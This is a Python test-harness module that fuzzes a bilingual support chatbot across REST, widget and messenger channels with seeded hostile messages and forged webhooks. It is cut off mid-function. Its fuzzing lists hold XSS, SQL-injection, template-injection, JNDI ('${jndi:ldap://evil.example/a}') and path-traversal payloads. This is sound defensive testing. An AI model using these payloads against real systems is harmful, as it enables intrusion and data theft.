"""Hostile inputs for every channel: the seeded generators, the plan of a run, the drivers that send it and
the checks applied to every answer. Used by tests/e2e/test_hostile_inputs.py and bench/hostile_bench.py.

A run is a `Plan` built from a seed and a `Mix` (how many conversations per channel, how many cheap edge
cases): every input gets an index, so that a failure names the seed and the index that reproduce it
(`python -m bench.hostile_bench --seed S --show INDEX` prints the input and its conversation).

- Conversations (REST, the widget over socket.io, Telegram, Messenger, Slack) start with a real question in
  French or English, which sets the conversation's language, then carry up to 14 more messages (the
  per-conversation rate limit is 20 a minute) drawn from the families below, plus messages over
  MAX_MESSAGE_CHARS (refused before the rate limit, so they do not count). Every message in a
  conversation reads as its language or as no language at all, so every reply must be in that language.
- Edge cases are cheap: malformed REST bodies (400 with a JSON error), bodies over 256 KB (413), widget
  connections with bad tokens and malformed socket.io events, unsigned or forged webhooks (401), signed
  webhooks that are not messages (400, 404, or 200 with nothing reaching a conversation).

`Runner` sends a plan from a few threads (each conversation on one thread), checks every answer
(`Failure` per problem, with the input's index) and returns a `Report` with the figures.
"""

from __future__ import annotations

import hashlib
import itertools
import json
import logging
import random
import re
import threading
import time
import unicodedata
import uuid
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import Any, Callable, Dict, Iterator, List, Optional, Tuple
from urllib.parse import quote, urlencode

import requests
import socketio

from channels.linking import parse_command
from support.identity import issue_token
from tests.helpers.conversation import DETECTOR
from tests.helpers.messengers import (
    FACEBOOK_VERIFY,
    TELEGRAM_SECRET,
    facebook_event,
    facebook_signature,
    new_id,
    post_facebook_raw,
    post_slack_raw,
    post_telegram_raw,
    slack_click_payload,
    slack_event,
    slack_signature,
    telegram_click,
    telegram_update,
    to_facebook,
    to_telegram,
)
from tests.helpers.platform_standin import Call, PlatformStandIn
from tests.helpers.server import Assistant
from tests.helpers.socketio_client import ChatClient

logging.getLogger("socketio.client").setLevel(logging.CRITICAL)  # refused connections are expected here

DEFAULT_SEED = 20_260_611
MAX_MESSAGE_CHARS = 4000  # channels/gate.py (support/settings.py's default)
LANGUAGES = ("fr", "en")
CHANNELS = ("rest", "socketio", "telegram", "facebook", "slack")
MESSENGERS = ("telegram", "facebook", "slack")
FAMILIES = (
    "question",
    "mixed",
    "empty",
    "whitespace",
    "huge_over",
    "huge_under",
    "emoji",
    "bidi",
    "zalgo",
    "surrogates",
    "control",
    "html",
    "sql",
    "template",
    "slash",
)
# How often each family comes after a conversation's first question (huge_over comes on top: refused).
WEIGHTS = {
    "question": 20,
    "mixed": 8,
    "empty": 3,
    "whitespace": 4,
    "huge_under": 3,
    "emoji": 7,
    "bidi": 6,
    "zalgo": 6,
    "surrogates": 6,
    "control": 7,
    "html": 7,
    "sql": 7,
    "template": 7,
    "slash": 11,
}
ACCOUNTS = (  # demo customers a conversation may be signed in as (admin@acme.example is the canary's)
    "admin@globex.example",
    "admin@umbrella.example",
    "admin@initech.example",
    "admin@hooli.example",
    "member@acme.example",
)
CARDS = {"4242": "acme.example", "5454": "globex.example", "1881": "initech.example", "4444": "umbrella.example"}
REFERENCE = re.compile(r"HD-[0-9A-Z]{6}")
REFUSAL = re.compile(r"too long|trop long")
TRACE = re.compile(r"Traceback|Exception|NoneType|Internal Server Error|\bundefined\b")
PLACEHOLDER = re.compile(r"[{}]|%s|%\(|\$\{")
CARD = re.compile(r"(?<!\d)(4242|5454|1881|4444)(?!\d)")
UNCLEAN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
SLACK_MENTION = re.compile(r"<@[A-Z0-9]+(?:\|[^>]*)?>")  # what Slack's channel strips from a message
# Rasa's built-in intents that anyone can type: silence, and the conversation's language forgotten
# (/restart, /back). Known defect, see KNOWN_DEFECTS.
RASA_CONTROL = re.compile(r"^\s*/(restart|back|session_start)\b")

KNOWN_DEFECTS = {
    "rasa_control_intents": "typed /restart, /back or /session_start: no answer; /restart and /back forget the "
    "conversation's language (later replies in product.yml's default); /restart while a person owns the "
    "conversation makes the bot speak",
    "messenger_reply_language": "Telegram without language_code, Messenger and Slack: a refusal (message too long) "
    "or a link-command reply is in the language guessed from the message's words (else product.yml's default), "
    "not in the conversation's language",
    "signed_misshapen_webhook": "a correctly signed webhook whose nested fields have the wrong JSON type "
    "(Telegram message/chat/from, Messenger entry/messaging/sender/quick_reply, Slack event/user/channel) "
    "gets a 500 and a traceback in the log",
}


# --- the messages --------------------------------------------------------------------------------------

QUESTIONS = {
    "fr": [
        "comment résilier mon abonnement",
        "pourquoi mon renouvellement a échoué",
        "pourquoi mon paiement a été refusé par la banque",
        "je voudrais passer au plan gratuit",
        "que se passe-t-il après la résiliation de mon abonnement",
        "est-ce que je peux être remboursé si je résilie maintenant",
        "mes crédits de téléphonie seront-ils remboursés",
        "comment exporter toutes mes données avant de partir",
        "comment supprimer définitivement mon compte",
        "nous avons la version sur site, comment la résilier",
        "où se trouvent les paramètres de facturation",
        "quelles sont les limites du plan gratuit",
        "comment relancer le paiement de ma facture",
        "je veux changer la carte bancaire enregistrée",
        "combien de temps dure la période de grâce",
        "quel est mon abonnement actuel",
        "je n'ai pas reçu l'e-mail de confirmation de la résiliation",
        "on m'a encore prélevé après la résiliation, pourquoi",
        "bonjour, j'ai une question sur ma facture",
        "merci beaucoup pour votre aide précieuse",
        "est-ce que vous êtes un robot ou une vraie personne",
        "ma carte a expiré, que dois-je faire",
        "le prélèvement automatique n'est pas passé ce mois-ci",
        "je souhaite arrêter mon abonnement à la fin du mois",
        "est-ce que mes données seront supprimées si je passe au gratuit",
        "comment savoir quand mon abonnement se renouvelle",
        "pouvez-vous m'expliquer pourquoi la banque a refusé le paiement",
        "je voudrais résilier mais garder mes fichiers",
        "où puis-je voir l'historique de mes achats",
        "que deviennent mes utilisateurs si je passe au plan gratuit",
    ],
    "en": [
        "how do I cancel my subscription",
        "why did my renewal fail",
        "why was my card payment declined by the bank",
        "I would like to switch to the free plan",
        "what happens after I cancel my subscription",
        "can I get a refund if I cancel now",
        "will my unused telephony credits be refunded",
        "how do I export all my data before leaving",
        "how can I delete my account permanently",
        "we run the on-premise edition, how do we cancel it",
        "where can I find the billing settings",
        "what are the limits of the free plan",
        "how do I retry the payment for my invoice",
        "I want to change the card on file",
        "how long is the grace period",
        "what plan am I on right now",
        "I never received the cancellation confirmation email",
        "I was charged again after cancelling, why",
        "hello, I have a question about my invoice",
        "thank you very much for your help",
        "are you a bot or a real person",
        "my card has expired, what should I do",
        "the automatic payment did not go through this month",
        "I want to stop my subscription at the end of the month",
        "will my data be deleted if I downgrade to free",
        "how can I tell when my subscription renews",
        "can you explain why the bank refused the payment",
        "I would like to cancel but keep my files",
        "where can I see my purchase history",
        "what happens to my users if I move to the free plan",
    ],
}
# A sentence of one language with a few words of the other: the conversation keeps its language.
MIXED = {
    "fr": [
        "je veux cancel mon abonnement s'il vous plaît",
        "c'est où le billing pour changer ma carte",
        "mon renewal a échoué ce matin, pourquoi",
        "est-ce que je peux avoir un refund pour mon abonnement annuel",
        "je voudrais faire un downgrade vers le plan gratuit",
        "mon payment a été refusé par la banque hier",
        "je ne trouve pas les settings de facturation",
        "comment faire l'export de toutes mes données avant de partir",
        "la période de grâce dure combien de jours exactement, please",
        "ma credit card a expiré, je fais comment maintenant",
    ],
    "en": [
        "how do I résilier my subscription please",
        "I want to annuler my plan at the end of the month",
        "my paiement failed this morning, why is that",
        "where is the facturation page in the settings",
        "can I get a remboursement for my annual plan",
        "I would like to move my account to the gratuit plan",
        "my carte bancaire expired, what should I do now",
        "how long is the période de grâce exactly",
        "please help me with the renewal of my abonnement",
        "I need to supprimer my account completely, how",
    ],
}
PREFIXES = {"fr": ["", "", "bonjour, ", "Bonjour ! ", "salut, ", "excusez-moi, "], "en": ["", "", "hi, ", "Hello! "]}
SUFFIXES = {
    "fr": ["", "", " ?", " ?", " svp", " merci", " s'il vous plaît ?"],
    "en": ["", "", "?", "?", " please", "??"],
}
EMOJI = [
    "😀",
    "😡",
    "🔥",
    "👍",
    "🙏",
    "💳",
    "🧾",
    "🚀",
    "✅",
    "❌",
    "⚠️",
    "❤️",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇫🇷",
    "🇬🇧",
    "👍🏽",
    "1️⃣",
    "#️⃣",
    "©️",
    "🤷‍♀️",
    "🫠",
    "\U0001f9d1\u200d\U0001f4bb",
]
BIDI = ["\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f", "\u200e"]
RTL_TEXT = ["مرحبا، أريد إلغاء اشتراكي", "שלום, אני רוצה לבטל את המנוי", "سلام", "‏بطاقة"]
ZALGO_MARKS = [
    *range(0x300, 0x370),
    *range(0x483, 0x48A),
    *range(0x1AB0, 0x1ABF),
    *range(0x1DC0, 0x1DFA),
    *range(0x20D0, 0x20F1),
    *range(0xFE20, 0xFE30),
]
CONTROLS = [chr(c) for c in [*range(0, 9), *range(11, 32), 127, *range(0x80, 0xA0)]]
ANSI = ["\x1b[31m", "\x1b[0m", "\x1b[2J", "\x1b]0;pwned\x07", "\r\n", "\x08\x08\x08", "\x00\x00"]
WHITESPACE = [" ", "\t", "\n", "\r", "\x0b", "\x0c", "\xa0", "\u1680", "\u2003", "\u2009", "\u2028", "\u3000", "\x1c"]
INVISIBLE = ["\u200b", "\ufeff", "\u2060", "\u00ad", "\u180e"]  # not whitespace for Python: they reach Rasa
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=alert('x')>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<b>",
    "</div></body></html>",
    "<!-- -->",
    "]]><![CDATA[",
    '<a href="https://evil.example/login">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>*{display:none}</style>",
    '"><script src=//evil.example/x.js></script>',
]
SQL = [
    "'; DROP TABLE subscriptions; --",
    "1' OR '1'='1",
    "admin'--",
    "1; SELECT pg_sleep(5)--",
    "' UNION SELECT email, password FROM users--",
    "1' AND sleep(5)#",
    "%' OR 1=1 --",
    "'); DELETE FROM tickets WHERE ('1'='1",
    "\\'; EXEC xp_cmdshell('dir')--",
    "1 OR 1=1",
    "' OR ''='",
    "'||(SELECT version())||'",
]
TEMPLATES = [
    "{product_name}",
    "{portal}",
    "{grace_days}",
    "{reference}",
    "{0}",
    "{}",
    "%s",
    "%d",
    "%(email)s",
    "%n%n%n",
    "%x%x%x",
    "${HOME}",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "{{config}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% debug %}",
    "[[7*7]]",
    "{card}",
    "{{constructor.constructor('alert(1)')()}}",
]
PAYLOADS = [
    "/affirm",
    "/deny",
    "/greet",
    "/goodbye",
    "/thank",
    "/bot_challenge",
    "/human_handoff",
    "/out_of_scope",
    "/cancel_subscription",
    "/downgrade_free_plan",
    "/refund_policy",
    "/telephony_refund",
    "/export_data",
    "/delete_account",
    "/cancel_on_premise",
    "/find_billing_settings",
    "/free_plan_limits",
    "/renewal_failed",
    "/retry_payment",
    "/update_payment_method",
    "/grace_period",
    "/subscription_status",
    "/cancellation_confirmation",
    '/affirm{"pending_change":"cancel_confirm"}',
    '/affirm{"pending_change":"retry_confirm"}',
    '/retry_payment{"invoice_id": 1}',
    '/greet{"language":"de"}',
    '/subscription_status{"identity": {"email": "admin@acme.example"}}',
    '/affirm{"misunderstood_twice": true}',
    "/nlu_fallback",
    "/action_listen",
    "/action_handoff",
    "/utter_greet",
    "/EXTERNAL_reminder",
    "/",
    "//",
    "/ greet",
    "/greet}{",
    "/greet{not json}",
    "/affirm@1.0",
    '/greet@0.5{"a":1}',
    "/unknown_intent",
    "/start",
    "/start@SupportBot",
    "/help",
]
CONTROL_PAYLOADS = ["/restart", "/back", "/session_start"]  # known defect (rasa_control_intents)
CODE_ALPHABET = "ABCDEFGHJKMNPQRSTUVWXYZ23456789"
LINK_COMMANDS = [
    "link {code}",
    "lier {code}",
    "LINK {code}!",
    "/start {code}",
    "/link@SupportBot {code}",
    "{code}",
    "{spaced}",
    "link",
    "lier",
    "unlink",
    "délier",
    "delier",
]
LINK_SENTENCES = {"fr": ["lier mon compte", "délier mon compte"], "en": ["link my account", "unlink my account"]}

_LETTER_CLASS = "a-zàâæçéèêëîïôœùûüÿ"
_WORD = re.compile(f"[{_LETTER_CLASS}]{{2,}}", re.IGNORECASE)
_MACHINE_TOKEN = re.compile(r"://|@|^www\.|\w[./\\]\w", re.IGNORECASE)


def sentence_words(text: str) -> int:
    """Different words of two French or English letters or more, links and addresses left out: what the
    support/language.py documents a language switch needs three of ("ok", `1' AND sleep(5)#` never switch)."""
    tokens = [t for t in unicodedata.normalize("NFKC", text).split() if not _MACHINE_TOKEN.search(t)]
    return len({word.casefold() for word in _WORD.findall(" ".join(tokens))})


def blank(text: Any) -> bool:
    """What the widget and the messengers leave unanswered: no text at all (README: nothing to answer)."""
    return not isinstance(text, str) or not text.strip()


def shown(text: Any, limit: int = 140) -> str:
    value = repr(text)
    return value if len(value) <= limit else f"{value[:limit]}… ({len(text) if isinstance(text, str) else '?'} chars)"


@dataclass
class Input:
    index: int  # the seed index: its place in the plan
    channel: str
    family: str  # a message family (FAMILIES), or the kind of an edge case
    text: Any = None  # the message
    language: Optional[str] = None  # the language the message reads as; None: no language
    refused: bool = False  # over MAX_MESSAGE_CHARS once cleaned: the channel refuses it
    via: str = "message"  # message, click (a button's payload), replay (the previous request again), event
    extra: Dict[str, Any] = field(default_factory=dict)  # channel details (metadata, fields, kind, target...)


@dataclass
class Conversation:
    number: int
    channel: str
    language: str
    locale: Optional[str]  # REST metadata, the widget's auth, Telegram's language_code
    account: Optional[str]  # signed in as (REST token, widget token)
    inputs: List[Input]
    extra: Dict[str, Any] = field(default_factory=dict)


@dataclass
class Batch:
    """Cheap edge cases of one channel, sent one after the other."""

    channel: str
    inputs: List[Input]


@dataclass(frozen=True)
class Mix:
    """How big a run is. The defaults: about 10,700 inputs, about 3,300 of them through the NLU."""

    rest_conversations: int = 100
    widget_conversations: int = 50
    telegram_conversations: int = 40
    facebook_conversations: int = 25
    slack_conversations: int = 25
    turns: int = 14  # messages after the first question (15 a conversation: the rate limit is 20 a minute)
    refused: int = 2  # messages over MAX_MESSAGE_CHARS per conversation, on top
    widget_events: int = 8  # malformed socket.io events per widget conversation
    rest_malformed: int = 2200
    rest_oversized: int = 100
    widget_bad_auth: int = 60
    messenger_forged: int = 700  # per platform
    messenger_malformed: int = 600  # per platform

    @property
    def inputs(self) -> int:
        conversations = (
            self.rest_conversations
            + self.widget_conversations
            + self.telegram_conversations
            + self.facebook_conversations
            + self.slack_conversations
        )
        per = 1 + self.turns + self.refused
        return (
            conversations * per
            + self.telegram_conversations
            + self.facebook_conversations
            + self.slack_conversations  # one replay each
            + self.widget_conversations * self.widget_events
            + self.rest_malformed
            + self.rest_oversized
            + self.widget_bad_auth
            + 3 * (self.messenger_forged + self.messenger_malformed)
        )

    def scaled(self, inputs: int) -> Mix:
        """The same proportions for about `inputs` inputs."""
        share = inputs / self.inputs
        values = {
            name: max(1, round(getattr(self, name) * share))
            for name in self.__dataclass_fields__
            if name not in ("turns", "refused", "widget_events")
        }
        return Mix(**values, turns=self.turns, refused=self.refused, widget_events=self.widget_events)


class Generator:
    """The hostile messages of every family, drawn from one random.Random."""

    def __init__(self, rng: random.Random, known_defects: bool = False) -> None:
        self.rng = rng
        self.payloads = PAYLOADS + (CONTROL_PAYLOADS if known_defects else [])

    def pick(self, items: List[Any]) -> Any:
        return items[self.rng.randrange(len(items))]

    def question(self, language: str) -> str:
        text = self.pick(PREFIXES[language]) + self.pick(QUESTIONS[language]) + self.pick(SUFFIXES[language])
        roll = self.rng.random()
        if roll < 0.1:
            return text.upper()
        if roll < 0.3:
            return text[:1].upper() + text[1:]
        return text

    def sentence(self, language: str) -> str:
        return self.pick(QUESTIONS[language] + MIXED[language])

    def code(self) -> str:
        return "".join(self.pick(list(CODE_ALPHABET)) for _ in range(6))

    def _insert(self, text: str, pieces: List[str], count: int) -> str:
        chars = list(text)
        for _ in range(count):
            chars.insert(self.rng.randrange(len(chars) + 1), self.pick(pieces))
        return "".join(chars)

    def _exact(self, unit: str, length: int) -> str:
        """`unit` repeated to exactly `length` characters, with no blank at either end (clean_text trims)."""
        text = (unit * (length // max(1, len(unit)) + 2))[:length]
        if text[0].isspace():
            text = "." + text[1:]
        return text[:-1] + "." if text[-1].isspace() else text

    def message(self, family: str, language: str) -> Tuple[Any, Optional[str], bool]:
        """(text, the language it reads as or None, refused)."""
        rng, sentence = self.rng, self.sentence(language)
        if family == "question":
            return self.question(language), language, False
        if family == "mixed":
            return (
                self.pick(PREFIXES[language]) + self.pick(MIXED[language]) + self.pick(SUFFIXES[language]),
                (language),
                False,
            )
        if family == "empty":
            return "", None, False
        if family == "whitespace":
            pool = WHITESPACE + (INVISIBLE if rng.random() < 0.3 else [])
            return "".join(self.pick(pool) for _ in range(rng.randint(1, 60))), None, False
        if family in ("huge_over", "huge_under"):
            return self.huge(family == "huge_over", language)
        if family == "emoji":
            flood = "".join(self.pick(EMOJI) for _ in range(rng.randint(1, 400)))
            if rng.random() < 0.5:
                return flood, None, False
            return f"{flood[:40]} {sentence} {flood[-40:]}", language, False
        if family == "bidi":
            roll = rng.random()
            if roll < 0.4:
                return self._insert(sentence, BIDI, rng.randint(1, 12)), language, False
            if roll < 0.6:
                return "\u202e" + sentence[::-1] + "\u202c", None if sentence_words(sentence) < 3 else language, False
            if roll < 0.8:
                return self.pick(BIDI) + self.pick(RTL_TEXT) + self.pick(BIDI), None, False
            return "".join(self.pick(BIDI) for _ in range(rng.randint(1, 30))), None, False
        if family == "zalgo":
            base = sentence if rng.random() < 0.7 else self.pick(["x", "hello", "ok", "a"])
            marks = rng.randint(1, 12)
            text = "".join(ch + "".join(chr(self.pick(ZALGO_MARKS)) for _ in range(marks)) for ch in base)
            return text[:3900], language if base == sentence else None, False
        if family == "surrogates":
            lone = [chr(c) for c in (0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0xD83D, 0xDE00)]
            if rng.random() < 0.2:
                return "".join(self.pick(lone) for _ in range(rng.randint(1, 20))), None, False
            return self._insert(sentence, lone + ["\udc00\ud800"], rng.randint(1, 8)), language, False
        if family == "control":
            if rng.random() < 0.15:
                return "".join(self.pick(CONTROLS) for _ in range(rng.randint(1, 50))), None, False
            return self._insert(sentence, CONTROLS + ANSI, rng.randint(1, 10)), language, False
        if family in ("html", "sql", "template"):
            pool = {"html": MARKUP, "sql": SQL, "template": TEMPLATES}[family]
            if rng.random() < 0.5:
                text = " ".join(self.pick(pool) for _ in range(rng.randint(1, 3)))
                return text, "en" if sentence_words(text) >= 3 else None, False
            words = sentence.split(" ")
            words.insert(rng.randrange(len(words) + 1), self.pick(pool))
            if rng.random() < 0.5:
                words.insert(rng.randrange(len(words) + 1), self.pick(pool))
            return " ".join(words), language, False
        if family == "slash":
            roll = rng.random()
            if roll < 0.7:
                return self.pick(self.payloads), None, False
            if roll < 0.9:
                code = self.code()
                text = self.pick(LINK_COMMANDS).format(code=code, spaced=f"{code[:3].lower()} {code[3:].lower()}")
                return text, None, False
            return self.pick(LINK_SENTENCES[language]), language, False
        raise ValueError(family)

    def huge(self, over: bool, language: str) -> Tuple[str, Optional[str], bool]:
        rng = self.rng
        length = rng.randint(4001, 4100) if over and rng.random() < 0.7 else rng.randint(4101, 20_000)
        if not over:
            length = rng.randint(3990, 4000) if rng.random() < 0.7 else rng.randint(3000, 3989)
        roll = rng.random()
        if roll < 0.4:
            return self._exact(self.sentence(language) + " ", length), language, over
        if roll < 0.6:
            return self._exact("".join(self.pick(EMOJI[:12]) for _ in range(20)), length), None, over
        if roll < 0.7:
            return self._exact(self.pick(["a", "é", "0", "-", "#"]), length), None, over
        if roll < 0.85:
            # invisible characters that cleaning removes: only what is left counts
            visible = self._exact(self.sentence(language) + " ", length)
            hidden = self._insert(visible[1:-1], ["\x00", "\u202e", "\x1b", "\x07"], rng.randint(50, 600))
            return visible[0] + hidden + visible[-1], language, over
        # e + combining acute: NFC makes one character of two, so 2 x N characters count as N
        count = length if over else rng.randint(2001, 4000)
        return "e\u0301" * count, None, over

    # --- edge cases -------------------------------------------------------------------------------------

    def hostile_text(self) -> Any:
        family = self.pick([f for f in FAMILIES if f not in ("huge_over", "huge_under")])
        return self.message(family, self.pick(list(LANGUAGES)))[0]

    def rest_malformed(self) -> Tuple[str, bytes, int, str]:
        """(kind, body, status, error)."""
        rng, ok = self.rng, {"sender": f"hx-{self.rng.randrange(10**6)}", "message": self.hostile_text()}
        kind = self.pick(["invalid_json", "not_object", "bad_sender", "bad_message", "bad_metadata", "deep_nesting"])
        if kind == "invalid_json":
            raw = self.pick(
                [
                    bytes(rng.randrange(128, 256) for _ in range(rng.randint(1, 200))),
                    json.dumps(ok).encode()[: rng.randint(1, 20)],
                    b"{'sender': 'x', 'message': 'hi'}",
                    b"{sender: x, message: hi}",
                    b'{"sender": "x", "message": "hi",}',
                    b"   ",
                    b"\x00",
                    b"{" * rng.randint(1, 50),
                    b'{"sender": "x" "message": "hi"}',
                    b'{"sender": "x", "message": "\\ud800\\x"}',
                    b"<xml><sender>x</sender></xml>",
                    b"sender=x&message=hi",
                ]
            )
            return kind, raw, 400, "invalid_json"
        if kind == "not_object":
            raw = self.pick([b"[1, 2]", b"null", b"42", b'"hello"', b"true", b"[]", b"", json.dumps([ok]).encode()])
            return kind, raw, 400, "body_must_be_an_object"
        if kind == "bad_sender":
            sender = self.pick(
                [None, 42, ["x"], {"id": "x"}, True, "", "x" * rng.randint(65, 300), "../../etc/passwd", "a b"]
                + ["é", "x\n", "a/b", "<script>", "rest-x?y", "x\x00", "telegram-1 ", "\u202etelegram-1"]
            )
            body = {**ok, "sender": sender} if sender is not None or rng.random() < 0.5 else {"message": ok["message"]}
            return kind, json.dumps(body).encode(), 400, "invalid_sender"
        if kind == "bad_message":
            message = self.pick([None, 42, 4.2, ["hi"], {"text": "hi"}, True, [], {}])
            body = {**ok, "message": message} if message is not None or rng.random() < 0.5 else {"sender": ok["sender"]}
            return kind, json.dumps(body).encode(), 400, "message_must_be_a_string"
        if kind == "bad_metadata":
            metadata = self.pick(["token", 42, ["locale"], True, 4.2, "", []])
            return kind, json.dumps({**ok, "metadata": metadata}).encode(), 400, "metadata_must_be_an_object"
        depth = rng.randint(20_000, 40_000)
        where = self.pick(["metadata", "message"])
        inner = "{}" if where == "metadata" else "[]"
        nested = ("{" + '"a":') * depth + inner + "}" * depth if where == "metadata" else "[" * depth + "]" * depth
        raw = ('{"sender": "%s", "message": "hi", "%s": %s}' % (ok["sender"], where, nested)).encode()  # noqa: UP031
        if where == "message":
            raw = ('{"sender": "%s", "message": %s}' % (ok["sender"], nested)).encode()  # noqa: UP031
        return kind, raw, 400, "invalid_json"

    def rest_oversized(self) -> bytes:
        size = self.rng.randint(256 * 1024 + 1, 1024 * 1024)
        if self.rng.random() < 0.7:
            unit = self.pick(["a", "é", "😀", "<script>", "\\u0000"])
            body = {"sender": "hx-big", "message": (unit * (size // len(unit) + 1))[:size]}
            return json.dumps(body, ensure_ascii=False).encode()[: size + 100]
        return bytes(self.rng.randrange(256) for _ in range(256)) * (size // 256 + 1)


def _rest_conversation_extras(gen: Generator, conv: Conversation) -> None:
    """Per-message metadata: the conversation's locale and token, sometimes something hostile besides."""
    rng = gen.rng
    for position, item in enumerate(conv.inputs):
        metadata: Any = {"locale": conv.locale} if conv.locale else {}
        if position and rng.random() < 0.3:
            metadata = dict(metadata)
            metadata.update(
                gen.pick(
                    [
                        {"identity": {"email": "admin@acme.example", "until": 4_102_444_800, "signature": "0" * 64}},
                        {"token": gen.pick(["not-a-jwt", "a.b.c", "", "x" * 5000, 42])},
                        {"locale": gen.pick(["zz", 42, ["x"], "x" * 300, "", None, "../../etc", "\u202e", "💥"])},
                        {"customData": {"token": "forged"}, "sender": "telegram-1", "session_id": "web-x"},
                        {"extra": [1, {"a": [None, True]}], "language": "de"},
                    ]
                )
            )
        item.extra["metadata"] = metadata


def _canary_sender(number: int) -> Optional[str]:
    return {0: "socketio", 1: "telegram", 2: "facebook", 3: "slack"}.get(number)


@dataclass
class Plan:
    seed: int
    mix: Mix
    conversations: List[Conversation]
    batches: List[Batch]
    known_defects: bool

    @property
    def size(self) -> int:
        return sum(len(c.inputs) for c in self.conversations) + sum(len(b.inputs) for b in self.batches)

    @property
    def fingerprint(self) -> str:
        """What the seed decided (every input's place, channel, family and text): equal for equal plans."""
        digest = hashlib.sha256()
        for job in [*self.conversations, *self.batches]:
            for item in job.inputs:
                digest.update(repr((item.index, item.channel, item.family, item.via, item.text)).encode())
                digest.update(repr(item.extra.get("raw", b"")[:200]).encode())
        return digest.hexdigest()[:12]

    def jobs(self) -> List[Any]:
        """Conversations and batches interleaved, so that cheap requests run while turns wait on the NLU. The
        conversations go channel after channel: measured faster than mixing them, as the widget's and the
        messengers' turn-end polling then competes with fewer turns."""
        jobs: List[Any] = []
        batches = iter(self.batches)
        per = max(1, len(self.conversations) // max(1, len(self.batches)))
        for number, conversation in enumerate(self.conversations):
            jobs.append(conversation)
            if number % per == per - 1:
                jobs.extend(itertools.islice(batches, 1))
        jobs.extend(batches)
        return jobs

    def find(self, index: int) -> Tuple[Optional[Any], Optional[Input]]:
        for job in [*self.conversations, *self.batches]:
            for item in job.inputs:
                if item.index == index:
                    return job, item
        return None, None


def build_plan(seed: int = DEFAULT_SEED, mix: Mix = Mix(), known_defects: bool = False) -> Plan:
    """Every input of a run, in a fixed order: the same seed and mix give the same inputs."""
    rng = random.Random(seed)
    gen = Generator(rng, known_defects)
    indices = itertools.count()
    families = list(WEIGHTS)
    weights = [WEIGHTS[f] for f in families]

    def new(channel: str, family: str, **values: Any) -> Input:
        return Input(next(indices), channel, family, **values)

    conversations: List[Conversation] = []
    counts = {
        "rest": mix.rest_conversations,
        "socketio": mix.widget_conversations,
        "telegram": mix.telegram_conversations,
        "facebook": mix.facebook_conversations,
        "slack": mix.slack_conversations,
    }
    for channel in CHANNELS:
        for number in range(counts[channel]):
            language = gen.pick(list(LANGUAGES))
            locale = None
            if channel in ("rest", "socketio") and rng.random() < 0.6:
                locale = gen.pick(
                    {"fr": ["fr-FR", "fr", "fr_CA", "FR-fr"], "en": ["en-GB", "en", "en_US", "EN"]}[language]
                )
            if channel == "telegram" and rng.random() < 0.75:
                locale = language
            account = None
            if channel == "rest" and rng.random() < 0.2:
                account = gen.pick(list(ACCOUNTS))
            if channel == "socketio" and number < len(ACCOUNTS):
                account = ACCOUNTS[number]  # one conversation per customer: the widget's is bound to the email
            inputs = [new(channel, "question", text=gen.question(language), language=language)]
            for _ in range(mix.turns):
                family = rng.choices(families, weights)[0]
                for _attempt in range(50):
                    text, reads_as, refused = gen.message(family, language)
                    # the widget's test client cannot follow a /restart (its tracker view starts again)
                    widget_restart = channel == "socketio" and isinstance(text, str) and RASA_CONTROL.match(text)
                    if reads_as in (None, language) and not widget_restart:
                        break
                else:  # nothing of this family in this language: a question instead
                    family, text, reads_as, refused = "question", gen.question(language), language, False
                via = "message"
                if family == "slash" and channel in MESSENGERS and text.startswith("/") and rng.random() < 0.5:
                    via = "click"  # a button: Telegram callback, Messenger quick reply or postback, Slack action
                inputs.append(new(channel, family, text=text, language=reads_as, refused=refused, via=via))
            for _ in range(mix.refused):
                text, reads_as, refused = gen.huge(True, language)
                position = rng.randint(1, len(inputs))
                inputs.insert(position, new(channel, "huge_over", text=text, language=reads_as, refused=refused))
            if channel in MESSENGERS:
                inputs.insert(rng.randint(2, len(inputs)), new(channel, "replay", via="replay"))
            if channel == "socketio":
                for _ in range(mix.widget_events):
                    event, data = widget_event(gen)
                    position = rng.randint(1, len(inputs))
                    inputs.insert(
                        position, new(channel, "malformed_event", via="event", extra={"event": event, "data": data})
                    )
                for item in inputs[1:]:
                    if item.via == "message" and rng.random() < 0.1:
                        item.extra["fields"] = gen.pick(
                            [
                                {"session_id": "telegram-1"},
                                {"customData": {"token": issue_token("admin@acme.example")}},
                                {"metadata": {"locale": "de-DE", "identity": {"email": "admin@acme.example"}}},
                                {"sender": "web-0000"},
                            ]
                        )
            conversation = Conversation(number, channel, language, locale, account, inputs)
            if channel == "rest":
                _rest_conversation_extras(gen, conversation)
                canary = _canary_sender(number)
                if canary:
                    conversation.extra["sender"] = f"canary:{canary}"
            if channel == "socketio":
                auth: Dict[str, Any] = {"locale": locale} if locale else {}
                if rng.random() < 0.2:  # an unknown session token or an empty token: a new anonymous conversation
                    auth.update(
                        gen.pick([{"session": "garbage"}, {"session": 42}, {"token": ""}, {"session": "a.b.c"}])
                    )
                conversation.extra["auth"] = auth
            conversations.append(conversation)

    batches: List[Batch] = []

    def batch(channel: str, items: List[Input], size: int = 50) -> None:
        for start in range(0, len(items), size):
            batches.append(Batch(channel, items[start : start + size]))

    rest_items = []
    for _ in range(mix.rest_malformed):
        kind, raw, status, error = gen.rest_malformed()
        rest_items.append(new("rest", kind, extra={"raw": raw, "status": status, "error": error}))
    for _ in range(mix.rest_oversized):
        rest_items.append(
            new("rest", "oversized", extra={"raw": gen.rest_oversized(), "status": 413, "error": "body_too_large"})
        )
    rng.shuffle(rest_items)
    batch("rest", rest_items)
    auth_items = [
        new("socketio", "bad_auth", extra={"token": bad_widget_token(gen)}) for _ in range(mix.widget_bad_auth)
    ]
    batch("socketio", auth_items, 20)
    for platform in MESSENGERS:
        items = []
        for _ in range(mix.messenger_forged):
            items.append(new(platform, "forged", text=gen.hostile_text(), extra=forged(gen, platform)))
        for _ in range(mix.messenger_malformed):
            kind, extra = malformed_webhook(gen, platform, known_defects)
